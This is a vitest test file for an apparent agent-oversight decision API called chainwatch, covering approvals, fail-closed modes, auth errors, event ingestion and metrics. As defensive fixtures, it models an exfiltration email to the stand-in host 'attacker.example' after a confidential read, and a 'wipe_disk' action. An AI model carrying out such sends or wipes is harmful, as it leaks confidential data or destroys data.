import { afterEach, describe, expect, it } from 'vitest';
import { DecisionResponse } from '@chainwatch/schemas';
import { actionDigest } from '@chainwatch/schemas';
import { InProcessView } from '@chainwatch/decision-api';
import { makeEvent } from '@chainwatch/testing';
import { FakeEngine, taintedSignal } from './fake-engine';
import { bearer, buildHarness, decisionRequest, type Harness } from './harness';

const SEND_OUT = { kind: 'tool_call', tool: 'email.send', operation: 'send', destination: 'attacker.example', data_class: 'internal', args: { to: 'x@attacker.example', body: 'SECRET-PAYLOAD-123' } } as const;
const READ = { kind: 'tool_call', tool: 'kb.search', operation: 'read', data_class: 'internal' } as const;

let harness: Harness | null = null;
afterEach(async () => {
  await harness?.close();
  harness = null;
});

async function decide(h: Harness, body: unknown, token = h.token) {
  const res = await h.api.app.inject({ method: 'POST', url: '/v1/decisions', headers: bearer(token), payload: body as object });
  return { status: res.statusCode, body: res.json() as Record<string, unknown> };
}

describe('POST /v1/decisions outcomes', () => {
  it('allows a benign action and logs the decision with a digest of the input, never the raw arguments', async () => {
    harness = await buildHarness(new FakeEngine());
    const req = decisionRequest('s-allow', { ...READ, args: { q: 'SECRET-PAYLOAD-123' } });
    const { status, body } = await decide(harness, req);
    expect(status).toBe(200);
    const res = DecisionResponse.parse(body);
    expect(res).toMatchObject({ decision: 'allow', shadow: false, stale: null, obligations: {}, policy_version: 'fake-1' });
    expect(res.view_age_ms).toBe(0);
    const records = await harness.decisionRecords();
    expect(records).toHaveLength(1);
    expect(records[0]).toMatchObject({ kind: 'decision', decision_id: res.decision_id, session_id: 's-allow', trace_id: 'trace-s-allow', decision: 'allow', enforced: 'allow', caller: 'chainwatch-dev', tool: 'kb.search' });
    expect(records[0]?.input_digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const raw = harness.log.records('chainwatch.decisions')[0]?.value.toString('utf8') ?? '';
    expect(raw).not.toContain('SECRET-PAYLOAD-123');
    expect(harness.log.records('chainwatch.decisions')[0]?.key).toBe('s-allow');
  });

  it('stops a send to an external destination after a confidential read before it happens (step_up with a binding)', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-exfil', 'evt-read-1'));
    harness = await buildHarness(engine, { approvalTtlMs: 60_000 });
    const before = Date.now();
    const { status, body } = await decide(harness, decisionRequest('s-exfil', SEND_OUT));
    expect(status).toBe(200);
    const res = DecisionResponse.parse(body);
    expect(res.decision).toBe('step_up');
    expect(res.reasons[0]).toMatchObject({ rule_id: 'chain.confidential_then_external_send', evidence_event_ids: ['evt-read-1'] });
    const approval = res.obligations.approval;
    expect(approval?.binding).toMatch(/[0-9a-f-]{36}/);
    expect(approval?.action_digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(approval?.evidence_event_ids).toEqual(['evt-read-1']);
    expect(approval?.expires_at).toBeGreaterThanOrEqual(before + 60_000);
  });

  it('denies what the engine denies', async () => {
    harness = await buildHarness(new FakeEngine());
    const { body } = await decide(harness, decisionRequest('s-deny', { kind: 'tool_call', tool: 'wipe_disk', operation: 'execute' }));
    expect(body).toMatchObject({ decision: 'deny', level: 'critical', obligations: {} });
  });

  it('shadow mode answers allow, reports the would-be decision and logs both', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-shadow', 'evt-read-2'));
    harness = await buildHarness(engine, { shadow: true });
    const { body } = await decide(harness, decisionRequest('s-shadow', SEND_OUT));
    expect(body).toMatchObject({ decision: 'allow', shadow: true, would_be: 'step_up', obligations: {} });
    const [record] = await harness.decisionRecords();
    expect(record).toMatchObject({ decision: 'step_up', enforced: 'allow', shadow: true });
  });
});

describe('approvals', () => {
  it('approves exactly the bound action: retry allowed once citing the approval, other actions and reuse are not', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-appr', 'evt-read-3'));
    harness = await buildHarness(engine);
    const h = harness;
    const first = DecisionResponse.parse((await decide(h, decisionRequest('s-appr', SEND_OUT))).body);
    const binding = first.obligations.approval?.binding as string;

    // No answer yet: the binding does not unlock anything.
    const pending = await decide(h, decisionRequest('s-appr', SEND_OUT, { approval_binding: binding }));
    expect(pending.body.decision).toBe('step_up');
    expect(JSON.stringify(pending.body.reasons)).toContain('no answer yet');

    const approver = await h.auth.sign({ sub: 'alice-approver', roles: ['approver'] });
    const answer = await h.api.app.inject({ method: 'POST', url: `/v1/approvals/${binding}`, headers: bearer(approver), payload: { approve: true, comment: 'ok for this ticket' } });
    expect(answer.statusCode).toBe(200);
    expect(answer.json()).toMatchObject({ binding, status: 'approved', session_id: 's-appr', action_digest: first.obligations.approval?.action_digest });
    // The engine hears of it keyed by its own digest of the action.
    expect(engine.approvals).toEqual([expect.objectContaining({ sessionId: 's-appr', approved: true, actionDigest: actionDigest(SEND_OUT), ruleIds: ['chain.confidential_then_external_send'] })]);

    // A different action (another recipient) presented with the binding: not allowed by it.
    const other = { ...SEND_OUT, destination: 'elsewhere.example', args: { to: 'y@elsewhere.example' } };
    const mismatch = await decide(h, decisionRequest('s-appr', other, { approval_binding: binding }));
    expect(mismatch.body.decision).toBe('step_up');
    expect(JSON.stringify(mismatch.body.reasons)).toContain('a different action or session');

    // The same action in another session: not allowed either.
    engine.loadSignal(taintedSignal('s-appr-2', 'evt-read-4'));
    const otherSession = await decide(h, decisionRequest('s-appr-2', SEND_OUT, { approval_binding: binding }));
    expect(otherSession.body.decision).toBe('step_up');

    // The exact action: allowed, the approval is the first reason.
    const retry = DecisionResponse.parse((await decide(h, decisionRequest('s-appr', SEND_OUT, { approval_binding: binding }))).body);
    expect(retry.decision).toBe('allow');
    expect(retry.reasons[0]).toMatchObject({ rule_id: 'approval.granted', evidence_event_ids: ['evt-read-3'] });
    expect(retry.reasons[0]?.message).toContain('alice-approver');

    // Used once: a second presentation is not honoured by the binding.
    const again = await decide(h, decisionRequest('s-appr', SEND_OUT, { approval_binding: binding }));
    expect(JSON.stringify(again.body.reasons)).toContain('already used');

    // Answering twice is refused.
    const twice = await h.api.app.inject({ method: 'POST', url: `/v1/approvals/${binding}`, headers: bearer(approver), payload: { approve: false } });
    expect(twice.statusCode).toBe(409);
    expect(twice.json()).toMatchObject({ error: { code: 'CW_APPROVAL_INVALID', retriable: false } });

    const records = await h.decisionRecords();
    const approvals = records.filter((r) => r.kind === 'approval');
    expect(approvals).toHaveLength(1);
    expect(approvals[0]).toMatchObject({ approval_binding: binding, caller: 'alice-approver', session_id: 's-appr', input_digest: first.obligations.approval?.action_digest });
    expect(JSON.stringify(records)).not.toContain('ok for this ticket');
  });

  it('a rejected action is denied when retried with its binding, and the rejection is logged', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-rej', 'evt-read-5'));
    harness = await buildHarness(engine);
    const first = DecisionResponse.parse((await decide(harness, decisionRequest('s-rej', SEND_OUT))).body);
    const binding = first.obligations.approval?.binding as string;
    const approver = await harness.auth.sign({ sub: 'bob', roles: ['approver'] });
    const res = await harness.api.app.inject({ method: 'POST', url: `/v1/approvals/${binding}`, headers: bearer(approver), payload: { approve: false } });
    expect(res.json()).toMatchObject({ status: 'rejected' });
    const retry = await decide(harness, decisionRequest('s-rej', SEND_OUT, { approval_binding: binding }));
    expect(retry.body.decision).toBe('deny');
    expect((retry.body.reasons as { rule_id: string }[])[0]?.rule_id).toBe('approval.rejected');
    expect(engine.approvals[0]).toMatchObject({ approved: false });
    expect((await harness.decisionRecords()).some((r) => r.kind === 'rejection' && r.approval_binding === binding)).toBe(true);
  });

  it('an expired binding can neither be answered nor unlock the action', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-exp', 'evt-read-6'));
    harness = await buildHarness(engine, { approvalTtlMs: 1 });
    const first = DecisionResponse.parse((await decide(harness, decisionRequest('s-exp', SEND_OUT))).body);
    const binding = first.obligations.approval?.binding as string;
    await new Promise((r) => setTimeout(r, 5));
    const approver = await harness.auth.sign({ sub: 'bob', roles: ['approver'] });
    const res = await harness.api.app.inject({ method: 'POST', url: `/v1/approvals/${binding}`, headers: bearer(approver), payload: { approve: true } });
    expect(res.statusCode).toBe(409);
    const retry = await decide(harness, decisionRequest('s-exp', SEND_OUT, { approval_binding: binding }));
    expect(retry.body.decision).toBe('step_up');
    expect(JSON.stringify(retry.body.reasons)).toMatch(/binding (expired|not honoured)/);
  });
});

describe('stale view', () => {
  function staleView(engine: FakeEngine): InProcessView {
    const view = new InProcessView(engine);
    view.markFresh(Date.now() - 60_000);
    return view;
  }

  it('fails closed (step_up by default) for sensitive actions and open for the rest, saying which mode decided', async () => {
    const engine = new FakeEngine();
    harness = await buildHarness(engine, { staleMs: 1000 }, staleView(engine));
    const sensitive = await decide(harness, decisionRequest('s-st', { kind: 'tool_call', tool: 'email.send', operation: 'send', destination: 'partner.example' }));
    expect(sensitive.body).toMatchObject({ decision: 'step_up', stale: 'fail_closed' });
    expect(sensitive.body.view_age_ms as number).toBeGreaterThanOrEqual(60_000);
    expect((sensitive.body.obligations as Record<string, unknown>).approval).toBeDefined();
    const confidential = await decide(harness, decisionRequest('s-st', { kind: 'data_access', tool: 'hr.read', operation: 'read', data_class: 'confidential' }));
    expect(confidential.body).toMatchObject({ decision: 'step_up', stale: 'fail_closed' });
    const benign = await decide(harness, decisionRequest('s-st', READ));
    expect(benign.body).toMatchObject({ decision: 'allow', stale: 'fail_open', reasons: [expect.objectContaining({ rule_id: 'view.stale.fail_open' })] });
    const [record] = await harness.decisionRecords();
    expect(record?.stale).toBe('fail_closed');
  });

  it('configurable: deny for sensitive actions, step_up for the rest', async () => {
    const engine = new FakeEngine();
    harness = await buildHarness(engine, { staleMs: 1000, failModeSensitive: 'deny', failModeOther: 'step_up' }, staleView(engine));
    const sensitive = await decide(harness, decisionRequest('s-st2', SEND_OUT));
    expect(sensitive.body).toMatchObject({ decision: 'deny', stale: 'fail_closed' });
    const benign = await decide(harness, decisionRequest('s-st2', READ));
    expect(benign.body).toMatchObject({ decision: 'step_up', stale: 'fail_closed' });
  });

  it('a view that never caught up is stale (age null) and not ready', async () => {
    const engine = new FakeEngine();
    harness = await buildHarness(engine, {}, new InProcessView(engine));
    const sensitive = await decide(harness, decisionRequest('s-st3', SEND_OUT));
    expect(sensitive.body).toMatchObject({ decision: 'step_up', stale: 'fail_closed', view_age_ms: null });
    const ready = await harness.api.app.inject({ method: 'GET', url: '/readyz' });
    expect(ready.statusCode).toBe(503);
    expect(ready.json()).toMatchObject({ error: { code: 'CW_VIEW_NOT_READY', retriable: true } });
  });
});

describe('errors', () => {
  it('401 without a token, with a foreign token, an expired one or a wrong audience', async () => {
    harness = await buildHarness(new FakeEngine());
    const req = decisionRequest('s-e', READ);
    const none = await harness.api.app.inject({ method: 'POST', url: '/v1/decisions', payload: req });
    expect(none.statusCode).toBe(401);
    expect(none.json()).toEqual({ error: { code: 'CW_UNAUTHENTICATED', message: 'missing or invalid bearer token', retriable: false } });

    const { createDevAuth } = await import('@chainwatch/decision-api');
    const foreign = await createDevAuth();
    expect((await decide(harness, req, foreign.token)).status).toBe(401);
    const expired = await harness.auth.sign({ sub: 'x', roles: ['enforcer'], ttlS: -120 });
    const exp = await decide(harness, req, expired);
    expect(exp.status).toBe(401);
    // The same message as every other 401: the caller is not told which check failed.
    expect(exp.body).toEqual(none.json());
    const wrongAud = await harness.auth.sign({ sub: 'x', roles: ['enforcer'], audience: 'someone-else' });
    expect((await decide(harness, req, wrongAud)).status).toBe(401);
    expect((await decide(harness, req, 'not-a-jwt')).status).toBe(401);
  });

  it('403 without the route role', async () => {
    harness = await buildHarness(new FakeEngine());
    const approverOnly = await harness.auth.sign({ sub: 'a', roles: ['approver'] });
    const res = await decide(harness, decisionRequest('s-f', READ), approverOnly);
    expect(res.status).toBe(403);
    expect(res.body).toMatchObject({ error: { code: 'CW_FORBIDDEN', message: expect.stringContaining('enforcer') } });
    const enforcerOnly = await harness.auth.sign({ sub: 'e', roles: ['enforcer'] });
    const appr = await harness.api.app.inject({ method: 'POST', url: '/v1/approvals/whatever', headers: bearer(enforcerOnly), payload: { approve: true } });
    expect(appr.statusCode).toBe(403);
  });

  it('400 with the zod issues for an invalid request, including unknown fields', async () => {
    harness = await buildHarness(new FakeEngine());
    const bad = { ...decisionRequest('s-v', READ), session_id: '', surprise: true, action: { ...READ, data_class: 'top-secret' } };
    const res = await decide(harness, bad);
    expect(res.status).toBe(400);
    const error = (res.body as { error: { code: string; issues: { path: string; message: string }[] } }).error;
    expect(error.code).toBe('CW_INVALID_REQUEST');
    const paths = error.issues.map((i) => i.path);
    expect(paths).toEqual(expect.arrayContaining(['session_id', 'action.data_class']));
    expect(JSON.stringify(error.issues)).toContain('surprise');
  });

  it('413 over the body limit', async () => {
    harness = await buildHarness(new FakeEngine(), { bodyLimitBytes: 2048 });
    const big = decisionRequest('s-big', { ...READ, args: { blob: 'x'.repeat(4000) } });
    const res = await decide(harness, big);
    expect(res.status).toBe(413);
    expect(res.body).toMatchObject({ error: { code: 'CW_PAYLOAD_TOO_LARGE', retriable: false } });
    const ndjson = Array.from({ length: 5 }, () => JSON.stringify(makeEvent())).join('\n');
    const events = await harness.api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(harness.token), 'content-type': 'application/x-ndjson' }, payload: ndjson });
    expect(events.statusCode).toBe(413);
    expect(harness.log.records('agent.actions')).toHaveLength(0);
  });

  it('429 past the per-subject rate limit, counted per token subject', async () => {
    harness = await buildHarness(new FakeEngine(), { rateLimitMax: 3, rateLimitWindowMs: 60_000 });
    const req = decisionRequest('s-rl', READ);
    for (let i = 0; i < 3; i++) expect((await decide(harness, req)).status).toBe(200);
    const limited = await decide(harness, req);
    expect(limited.status).toBe(429);
    expect(limited.body).toMatchObject({ error: { code: 'CW_RATE_LIMITED', retriable: true } });
    const otherSubject = await harness.auth.sign({ sub: 'gateway-2', roles: ['enforcer'] });
    expect((await decide(harness, req, otherSubject)).status).toBe(200);
  });

  it('404 in the same error shape', async () => {
    harness = await buildHarness(new FakeEngine());
    const res = await harness.api.app.inject({ method: 'GET', url: '/v1/nope', headers: bearer(harness.token) });
    expect(res.statusCode).toBe(404);
    expect(res.json()).toMatchObject({ error: { code: 'CW_NOT_FOUND' } });
  });
});

describe('POST /v1/events (NDJSON)', () => {
  it('keeps every valid line and rejects each invalid one with its line number and zod issue, in one response', async () => {
    harness = await buildHarness(new FakeEngine());
    const good1 = makeEvent({ trace_id: 'trace-a' });
    const good2 = makeEvent({ trace_id: 'trace-b' });
    const badSeconds = { ...makeEvent(), ts: 1_700_000_000 };
    const body = [JSON.stringify(good1), JSON.stringify(badSeconds), '', '{not json', JSON.stringify(good2), ''].join('\n');
    const res = await harness.api.app.inject({
      method: 'POST',
      url: '/v1/events',
      headers: { ...bearer(harness.token), 'content-type': 'application/x-ndjson' },
      payload: body,
    });
    expect(res.statusCode).toBe(200);
    const out = res.json() as { accepted: number; rejected: { line: number; error: string; issues?: { path: string }[] }[] };
    expect(out.accepted).toBe(2);
    expect(out.rejected).toEqual([
      expect.objectContaining({ line: 2, error: expect.stringContaining('ts: must be epoch milliseconds'), issues: [expect.objectContaining({ path: 'ts' })] }),
      { line: 4, error: 'not valid JSON' },
    ]);
    const published = harness.log.records('agent.actions');
    expect(published.map((r) => r.key)).toEqual(['trace-a', 'trace-b']);
    expect(JSON.parse(published[0]?.value.toString('utf8') ?? '{}')).toMatchObject({ event_id: good1.event_id });
  });

  it('400 when no line is valid; requires the enforcer role and the NDJSON content type', async () => {
    harness = await buildHarness(new FakeEngine());
    const res = await harness.api.app.inject({
      method: 'POST',
      url: '/v1/events',
      headers: { ...bearer(harness.token), 'content-type': 'application/x-ndjson' },
      payload: '{"schema_version":1}\n',
    });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ accepted: 0, rejected: [expect.objectContaining({ line: 1 })], error: { code: 'CW_INVALID_EVENT' } });
    expect(harness.log.records('agent.actions')).toHaveLength(0);

    const analyst = await harness.auth.sign({ sub: 'an', roles: ['analyst'] });
    const forbidden = await harness.api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(analyst), 'content-type': 'application/x-ndjson' }, payload: JSON.stringify(makeEvent()) });
    expect(forbidden.statusCode).toBe(403);

    const wrongType = await harness.api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(harness.token), 'content-type': 'text/plain' }, payload: JSON.stringify(makeEvent()) });
    expect(wrongType.statusCode).toBe(415);
    expect(wrongType.json()).toMatchObject({ error: { code: 'CW_INVALID_REQUEST' } });
  });
});

describe('session risk, health, metrics, OpenAPI', () => {
  it('GET /v1/sessions/:id/risk for enforcer or analyst; 404 for an unknown session', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-risk', 'evt-9', 4));
    harness = await buildHarness(engine);
    const analyst = await harness.auth.sign({ sub: 'an', roles: ['analyst'] });
    const res = await harness.api.app.inject({ method: 'GET', url: '/v1/sessions/s-risk/risk', headers: bearer(analyst) });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ session_id: 's-risk', seq: 4, score: 35, level: 'medium', stale: false, reasons: [expect.objectContaining({ evidence_event_ids: ['evt-9'] })] });
    expect((await harness.api.app.inject({ method: 'GET', url: '/v1/sessions/nope/risk', headers: bearer(analyst) })).statusCode).toBe(404);
    const approver = await harness.auth.sign({ sub: 'ap', roles: ['approver'] });
    expect((await harness.api.app.inject({ method: 'GET', url: '/v1/sessions/s-risk/risk', headers: bearer(approver) })).statusCode).toBe(403);
  });

  it('POST /v1/sessions/risk answers many sessions at once: known ones in items, the rest in missing', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-a', 'evt-1', 2));
    engine.loadSignal(taintedSignal('s-b', 'evt-2', 5));
    const h = await buildHarness(engine);
    harness = h;
    const analyst = await h.auth.sign({ sub: 'an', roles: ['analyst'] });
    const ask = (payload: unknown, token = analyst) =>
      h.api.app.inject({ method: 'POST', url: '/v1/sessions/risk', headers: { ...bearer(token), 'content-type': 'application/json' }, payload: JSON.stringify(payload) });
    const res = await ask({ session_ids: ['s-b', 'nope', 's-a', 's-b'] });
    expect(res.statusCode).toBe(200);
    const body = res.json<{ items: { session_id: string; seq: number; level: string }[]; missing: string[] }>();
    expect(body.items.map((i) => [i.session_id, i.seq])).toEqual([['s-b', 5], ['s-a', 2]]);
    expect(body.missing).toEqual(['nope']);
    expect((await ask({ session_ids: [] })).statusCode).toBe(400);
    expect((await ask({ session_ids: Array.from({ length: 1001 }, (_, i) => `s-${i}`) })).statusCode).toBe(400);
    const approver = await h.auth.sign({ sub: 'ap', roles: ['approver'] });
    expect((await ask({ session_ids: ['s-a'] }, approver)).statusCode).toBe(403);
  });

  it('serves /healthz, /readyz, /metrics (decisions by outcome, latency, view age) without a token, /docs/json with one', async () => {
    harness = await buildHarness(new FakeEngine());
    await decide(harness, decisionRequest('s-m', READ));
    await decide(harness, decisionRequest('s-m', { kind: 'tool_call', tool: 'wipe_disk' }));
    expect((await harness.api.app.inject({ method: 'GET', url: '/healthz' })).json()).toEqual({ status: 'ok' });
    expect((await harness.api.app.inject({ method: 'GET', url: '/readyz' })).json()).toMatchObject({ status: 'ready', view_age_ms: 0 });
    const metrics = (await harness.api.app.inject({ method: 'GET', url: '/metrics' })).body;
    expect(metrics).toMatch(/chainwatch_decisions_total\{decision="allow",enforced="allow",mode="enforce"\} 1/);
    expect(metrics).toMatch(/chainwatch_decisions_total\{decision="deny",enforced="deny",mode="enforce"\} 1/);
    expect(metrics).toMatch(/chainwatch_decision_duration_seconds_count 2/);
    expect(metrics).toMatch(/chainwatch_decision_view_age_seconds 0/);
    expect((await harness.api.app.inject({ method: 'GET', url: '/docs/json' })).statusCode).toBe(401);
    const doc = (await harness.api.app.inject({ method: 'GET', url: '/docs/json', headers: bearer(harness.token) })).json() as {
      openapi: string;
      paths: Record<string, Record<string, { requestBody?: unknown; responses: Record<string, unknown> }>>;
      components: { schemas: Record<string, unknown> };
    };
    expect(doc.openapi).toMatch(/^3\./);
    const post = doc.paths['/v1/decisions']?.post;
    expect(post?.requestBody).toBeDefined();
    const ref = /#\/components\/schemas\/(\w+)/.exec(JSON.stringify(post?.requestBody))?.[1] ?? '';
    expect(ref).toMatch(/^DecisionRequest/);
    expect(JSON.stringify(doc.components.schemas[ref])).toContain('session_id');
    expect(Object.keys(post?.responses ?? {})).toEqual(expect.arrayContaining(['200', '400', '401', '403', '413', '429']));
    expect(doc.paths['/v1/approvals/{binding}']).toBeDefined();
    expect(doc.paths['/v1/events']).toBeDefined();
  });
});
